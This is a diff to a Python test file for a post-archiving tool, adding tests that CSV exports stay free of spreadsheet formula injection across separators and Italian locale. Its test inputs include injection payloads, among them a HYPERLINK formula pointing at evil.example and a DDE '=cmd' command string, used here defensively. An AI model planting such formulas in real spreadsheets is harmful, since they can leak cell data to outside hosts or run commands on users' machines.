@@ -247,10 +247,54 @@ def test_a_table_holds_every_post_with_formulas_made_harmless(run, evil: None) -
     assert len(rows) == len(EVIL)
     for row, text in zip(rows, EVIL, strict=True):
         assert not row["text"].startswith(("=", "+", "-", "@", "\t", "\r"))
-        assert row["text"].removeprefix("'").strip() == text.strip()
+        assert row["text"].replace("'", "").strip() == text.strip()
     assert [row["reactions"] for row in rows][:4] == ["0", "1", "", "123456789012"]
     assert rows[0]["platform_id"] == "122409617234567800"
     assert rows[0]["published_at"] == "2026-10-01T10:00:00Z"
+
+
+@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
+@pytest.mark.parametrize("written", ["comma", "semicolon", "tab"])
+def test_no_formula_wherever_a_spreadsheet_splits(
+    run, tmp_path: Path, separator: str, written: str
+) -> None:
+    """Read with another separator than it was written with, as in another country."""
+    texts = [f"x{sign}{start}1+1" for sign in ",;\t|\n" for start in "=+-@"]
+    texts += [
+        'x;=HYPERLINK("http://evil.example"&A1;"click")',
+        'a;"=1+1"',
+        "a,''=1",
+        '=cmd|"/c"!A1',
+    ]
+    table = tmp_path / "a.csv"
+    with table.open("w", encoding="utf-8", newline="") as file:
+        writer = csv.writer(file)
+        writer.writerow(["id", "date", "text", "likes"])
+        writer.writerows([n, f"2026-10-{n + 1:02} 10:00", text, n] for n, text in enumerate(texts))
+    assert run("import", table, "--account", REF).exit_code == 0
+    assert run("export", REF, "--separator", written, "--out", "out.csv").exit_code == 0
+    with Path("out.csv").open(encoding="utf-8-sig", newline="") as file:
+        rows = list(csv.reader(file, delimiter=separator))
+    cells = [cell for row in rows for cell in row]
+    assert [cell for cell in cells if cell.lstrip("\"'").startswith(tuple("=+-@"))
+            and not cell.startswith(("'", '"'))] == []  # fmt: skip
+    assert [cell for cell in cells if cell.startswith(tuple("=+-@\t\r"))] == []
+
+
+def test_an_italian_table_opens_in_columns(run, evil: None) -> None:
+    assert run("--language", "it", "export", REF, "--out", "it.csv").exit_code == 0
+    with Path("it.csv").open(encoding="utf-8-sig", newline="") as file:
+        rows = list(csv.DictReader(file, delimiter=";"))
+    assert len(rows) == len(EVIL)
+    assert rows[0]["account"] == REF
+    assert run("export", REF, "--out", "en.csv").exit_code == 0
+    assert Path("en.csv").read_bytes().count(b",") > Path("en.csv").read_bytes().count(b";")
+
+
+def test_an_export_can_be_imported_again(run, evil: None, tmp_path: Path) -> None:
+    assert run("--language", "it", "export", REF, "--out", "it.csv").exit_code == 0
+    done = run("import", "it.csv", "--account", REF, "--store", tmp_path / "b.sqlite3", "--yes")
+    assert done.exit_code == 0, done.output
 
 
 def test_json_holds_the_same_with_null_for_unknown(run, evil: None) -> None:
